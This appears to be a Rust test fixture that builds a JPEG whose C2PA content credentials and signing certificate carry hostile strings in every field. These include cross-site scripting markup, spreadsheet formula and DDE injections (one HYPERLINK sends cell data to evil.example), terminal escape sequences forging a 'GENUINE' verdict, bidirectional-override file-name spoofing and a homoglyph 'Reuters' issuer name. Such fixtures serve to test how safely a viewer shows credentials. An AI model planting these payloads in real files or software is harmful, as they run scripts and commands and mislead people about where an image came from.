//! Credentials in which every string that a maker can choose is chosen to do harm where it is shown: markup, formulae,
//! terminal controls, bidirectional overrides, and lengths that nobody would read.

use sha2::{Digest, Sha256};

use super::{
    cbor::{Cbor, map},
    credentials::{SIGNER, assertion, bmff_box, claim_signature_under, der, excluding, segment, superbox},
};

const MARKUP: &str = "<script>alert(1)</script><img src=x onerror=alert(2)>";
const LINK: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
const COMMAND: &str = "+cmd|' /C calc'!A0";
const SUM: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
/// Clear the screen, rename the window, colour by a C1 control, ring, end the string, begin new lines.
const TERMINAL: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\0\r\nVERDICT: GENUINE\u{8}\u{7f}";
const BIDI: &str = "\u{202e}gpj.exe\u{2066}\u{200f}\u{200b}\u{feff}\u{e0041}";
const UUID: &str = "6f5e4d3c-2b1a-4c0d-8e9f-a0b1c2d3e4f5";

/// The JPEG with such credentials, signed by a certificate in such a name.
pub fn signed(jpeg: &[u8]) -> Vec<u8> {
    assert_eq!(jpeg[..2], [0xff, 0xd8], "not a JPEG");
    let length = segment(&store(0, &[0; 32])).len();
    let signed = segment(&store(length, &Sha256::digest(jpeg)));
    assert_eq!(signed.len(), length);
    [&jpeg[..2], &signed, &jpeg[2..]].concat()
}

fn store(excluded: usize, digest: &[u8]) -> Vec<u8> {
    let label = format!("urn:c2pa:{UUID}");
    let ingredient = assertion("c2pa.ingredient.v3", &ingredient());
    let actions = assertion("c2pa.actions.v2", &actions(&reference("c2pa.ingredient.v3", &ingredient)));
    let assertions = [
        ("c2pa.actions.v2", actions),
        ("c2pa.ingredient.v3", ingredient),
        ("stds.exif", json("stds.exif", &camera())),
        ("c2pa.soft-binding", assertion("c2pa.soft-binding", &soft_binding())),
        ("com.example.note", json("com.example.note", &note())),
        ("c2pa.hash.data", assertion("c2pa.hash.data", &excluding(excluded, digest))),
    ];
    let claim = map([
        ("instanceID", Cbor::Text(format!("xmp:iid:{UUID}"))),
        ("claim_generator_info", map([("name", text(&[MARKUP, TERMINAL, BIDI])), ("version", SUM.into())])),
        ("signature", Cbor::Text(format!("self#jumbf=/c2pa/{label}/c2pa.signature"))),
        ("created_assertions", Cbor::Array(assertions.iter().map(|(name, boxed)| reference(name, boxed)).collect())),
        ("dc:title", text(&[LINK, MARKUP, TERMINAL, BIDI, &long()])),
        ("alg", "sha256".into()),
    ]);
    let claim = claim.bytes();
    let signature = claim_signature_under(certificate(), &claim);
    let boxes: Vec<u8> = assertions.into_iter().flat_map(|(_, boxed)| boxed).collect();
    let parts = [
        superbox(*b"c2as", "c2pa.assertions", &boxes),
        superbox(*b"c2cl", "c2pa.claim.v2", &bmff_box(*b"cbor", &claim)),
        superbox(*b"c2cs", "c2pa.signature", &bmff_box(*b"cbor", &signature)),
    ];
    superbox(*b"c2pa", "c2pa", &superbox(*b"c2ma", &label, &parts.concat()))
}

fn actions(ingredient: &Cbor) -> Cbor {
    let agent = |name: &[&str]| map([("name", text(name))]);
    let created = map([
        ("action", "c2pa.created".into()),
        ("digitalSourceType", text(&["https://evil.example/", MARKUP, BIDI])),
        ("softwareAgent", agent(&[COMMAND, TERMINAL])),
        ("description", text(&[MARKUP, &long()])),
    ]);
    let placed = map([
        ("action", "c2pa.placed".into()),
        ("parameters", map([("ingredients", Cbor::Array(vec![ingredient.clone()]))])),
    ]);
    let own = map([
        ("action", text(&["evil.example.", MARKUP, TERMINAL, BIDI])),
        ("softwareAgent", agent(&[SUM, BIDI])),
        ("reason", text(&[LINK])),
    ]);
    map([("actions", Cbor::Array(vec![created, placed, own]))])
}

fn ingredient() -> Cbor {
    map([
        ("dc:title", text(&[COMMAND, MARKUP, TERMINAL, BIDI, &long()])),
        ("dc:format", text(&["image/", MARKUP])),
        ("relationship", "componentOf".into()),
        ("description", text(&[SUM, TERMINAL])),
    ])
}

fn soft_binding() -> Cbor {
    let block = map([("scope", Cbor::Map(Vec::new())), ("value", Cbor::Bytes(b"none".to_vec()))]);
    map([("alg", text(&["evil.example.", MARKUP, TERMINAL])), ("blocks", Cbor::Array(vec![block]))])
}

fn camera() -> serde_json::Value {
    serde_json::json!({
        "@context": {"exif": "http://ns.adobe.com/exif/1.0/", "tiff": "http://ns.adobe.com/tiff/1.0/"},
        "tiff:Make": ([LINK, TERMINAL].concat()),
        "tiff:Model": ([MARKUP, BIDI].concat()),
    })
}

/// An assertion of its own, with names of members that are hostile too.
fn note() -> serde_json::Value {
    let (outer, inner) = ([MARKUP, TERMINAL, BIDI].concat(), [SUM, BIDI].concat());
    serde_json::json!({ outer: { inner: [LINK, COMMAND, long()] } })
}

fn text(parts: &[&str]) -> Cbor {
    Cbor::Text(parts.concat())
}

fn long() -> String {
    "Read on! \u{202e}".repeat(400)
}

fn json(label: &str, value: &serde_json::Value) -> Vec<u8> {
    superbox(*b"json", label, &bmff_box(*b"json", value.to_string().as_bytes()))
}

/// A hashed URI of an assertion in the same manifest.
fn reference(name: &str, boxed: &[u8]) -> Cbor {
    let digest = Sha256::digest(&boxed[8..]).to_vec();
    map([("url", Cbor::Text(format!("self#jumbf=c2pa.assertions/{name}"))), ("hash", Cbor::Bytes(digest))])
}

/// The samples' certificate with hostile names in it. Its issuer's signature does not fit any more, which nobody
/// looks at: its issuer is on no list.
fn certificate() -> Vec<u8> {
    let standing = der(SIGNER);
    let fields = items(content(&standing));
    let body = items(content(fields[0]));
    // Version, serial number, algorithm, issuer, validity, subject, … (RFC 5280, section 4.1)
    let mut renamed: Vec<u8> = body[..5].concat();
    renamed.extend(subject());
    renamed.extend(body[6..].concat());
    value(0x30, &[&value(0x30, &renamed), fields[1], fields[2]].concat())
}

fn subject() -> Vec<u8> {
    const ORGANISATION: &[u8] = &[0x55, 0x04, 0x0a];
    const COMMON_NAME: &[u8] = &[0x55, 0x04, 0x03];
    let named = |kind: &[u8], name: String| {
        let pair = [value(0x06, kind), value(0x0c, name.as_bytes())].concat();
        value(0x31, &value(0x30, &pair))
    };
    let organisation = ["R\u{435}uters ", LINK, MARKUP, TERMINAL, BIDI].concat();
    let common_name = [COMMAND, MARKUP, &long()].concat();
    value(0x30, &[named(ORGANISATION, organisation), named(COMMON_NAME, common_name)].concat())
}

/// A DER value: its tag, its length in the shortest form, its content.
fn value(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = u16::try_from(content.len()).expect("a certificate is short").to_be_bytes();
    let head = match content.len() {
        0..=0x7f => vec![tag, length[1]],
        0x80..=0xff => vec![tag, 0x81, length[1]],
        _ => vec![tag, 0x82, length[0], length[1]],
    };
    [&head, content].concat()
}

/// What the first DER value of `der` holds.
fn content(der: &[u8]) -> &[u8] {
    let (head, length) = measure(der);
    &der[head..head + length]
}

/// The DER values that stand one after the other, each with its head.
fn items(mut der: &[u8]) -> Vec<&[u8]> {
    let mut items = Vec::new();
    while !der.is_empty() {
        let (head, length) = measure(der);
        let (item, rest) = der.split_at(head + length);
        items.push(item);
        der = rest;
    }
    items
}

/// Bytes of the head and of the content.
fn measure(der: &[u8]) -> (usize, usize) {
    match der[1] {
        0x82 => (4, usize::from(der[2]) << 8 | usize::from(der[3])),
        0x81 => (3, usize::from(der[2])),
        short => (2, usize::from(short)),
    }
}
